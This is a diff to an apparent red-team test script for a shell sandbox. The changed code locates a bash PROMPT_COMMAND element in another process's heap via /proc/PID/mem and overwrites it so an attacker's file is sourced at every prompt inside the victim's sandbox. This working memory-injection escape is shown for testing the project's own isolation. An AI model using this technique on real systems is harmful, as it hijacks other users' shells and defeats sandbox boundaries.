@@ -17,7 +17,7 @@ fi
 CDSW_NAME=cdrt CDSW_WHAT="cd switch red team"
 . "$(dirname "$0")/cdsw_lib.sh"
 
-# The attack: find the shell's PROMPT_COMMAND element "__sbxsh_prompt" (bash's ARRAY_ELEMENT
+# The attack: find the shell's PROMPT_COMMAND element "__sbxsh_prompt…" (bash's ARRAY_ELEMENT
 # {index 1, value}) in its heap, read through a read-only /proc/PID/mem (the kernel allows
 # that), and write ". ~/../a/p" over it through a re-open of that descriptor for writing. p
 # then runs at every prompt, in B's sandbox after the cd.
@@ -45,7 +45,7 @@ if how == "link":
 try:
     rw = os.open(name, os.O_RDWR)
     n = 0
-    for m in re.finditer(re.escape(b"__sbxsh_prompt\0"), data):
+    for m in re.finditer(rb"__sbxsh_prompt[^\0]*\0", data):
         addr = heap[0] + m.start()
         if re.search(re.escape(struct.pack("<QQ", 1, addr)), data):
             os.pwrite(rw, b". ~/../a/p\0", addr); n += 1
